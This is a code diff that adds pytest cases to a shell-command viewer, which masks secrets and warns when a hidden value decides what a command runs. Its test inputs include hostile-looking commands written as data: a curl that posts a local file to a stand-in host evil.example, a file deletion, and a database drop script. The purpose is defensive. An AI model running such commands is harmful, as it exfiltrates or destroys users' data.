@@ -112,3 +112,26 @@ def test_other_tools_show_redacted_escaped_arguments() -> None:
     )
     assert view is None
     assert "ghp_" not in message and "\x1b" not in message
+
+
+@pytest.mark.parametrize(
+    ("command", "hidden"),
+    [
+        ('DECOY_TOKEN=victim; rm -f "$DECOY_TOKEN"', "$DECOY_TOKEN"),
+        ("API_TOKEN=evil.example; curl -d @notes https://${API_TOKEN}/", "$API_TOKEN"),
+        ('export DB_PASSWORD=prod; ./drop.sh "$DB_PASSWORD"', "$DB_PASSWORD"),
+    ],
+)
+def test_a_masked_value_the_line_expands_is_called_out(command: str, hidden: str) -> None:
+    # The value decides what runs (which file, which host), yet it is masked as a secret:
+    # the person must be told that what runs depends on something not shown.
+    view = shell_view({"command": command}, working_dir="/w")
+    assert "[REDACTED:" in view.command_line
+    assert hidden in view.note
+    assert "depends on a value not shown" in view.sentence()
+
+
+def test_a_masked_credential_the_line_does_not_expand_needs_no_warning() -> None:
+    view = shell_view({"command": "GITHUB_TOKEN=ghp_abcdefghijklmnopqrstuvwxyz0123456789 gh api user"}, working_dir="/w")
+    assert "[REDACTED:" in view.command_line
+    assert view.note == ""
